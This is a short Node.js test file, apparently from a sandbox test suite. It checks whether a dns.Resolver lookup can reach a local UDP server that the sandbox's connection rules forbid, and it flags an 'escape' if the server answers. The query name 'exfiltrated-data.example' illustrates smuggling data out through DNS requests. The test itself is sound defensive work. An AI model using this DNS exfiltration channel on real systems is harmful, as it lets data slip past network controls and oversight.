// DNS through c-ares (dns.Resolver) to a server network.connect does not allow: the counting UDP
// server answers NXDOMAIN. A lookup is a datagram out: data can leave in the name asked for.
import dns from 'node:dns';
import { deadline, env, escaped, failed, step } from './_attempt.mjs';

const port = Number(env('UDP'));
deadline(10_000, 'dns.Resolver.resolve4');
const r = new dns.Resolver({ timeout: 2000, tries: 1 });
step('dns.Resolver.setServers', () => r.setServers([`127.0.0.1:${port}`]));
step('dns.Resolver.resolve4', () => r.resolve4('exfiltrated-data.example', (e) => {
  if (e && (e.code === 'ENOTFOUND' || e.code === 'ENODATA' || e.code === 'ESERVFAIL' || e.code === 'EREFUSED' || e.code === 'EBADRESP')) {
    escaped(`a DNS query reached 127.0.0.1:${port} through c-ares (${e.code})`);
  } else if (e) failed(e, 'dns.Resolver.resolve4');
  else escaped(`a DNS query reached 127.0.0.1:${port} through c-ares`);
}));
